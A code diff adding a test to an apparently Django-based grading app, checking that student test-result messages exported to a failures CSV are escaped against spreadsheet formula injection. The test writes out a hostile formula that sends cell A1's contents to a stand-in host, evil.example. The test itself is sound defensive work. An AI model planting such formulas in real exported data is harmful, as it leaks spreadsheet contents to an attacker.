@@ -166,3 +166,17 @@ def test_the_query_count_is_the_same_for_5_and_50_students(course, examiner, ass
     build_class(course, assignment, 45, start=5)
     assert Membership.objects.filter(course=course, role=Role.STUDENT).count() == 50
     assert _queries(client, url) == small
+
+
+def test_a_students_message_cannot_become_a_spreadsheet_formula(course, examiner, assignment, client_for) -> None:  # type: ignore[no-untyped-def]
+    from workers.models import TestResult
+
+    build_class(course, assignment, 5)
+    TestResult.objects.filter(status="error", reason="your code raised an exception").update(
+        message='=HYPERLINK("http://evil.example/?"&A1,"click")'
+    )
+    response = client_for(examiner).get(f"{PAGE}csv/failures.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    cells = [cell for row in rows for cell in row]
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
+    assert not any(cell.startswith("=") for cell in cells)
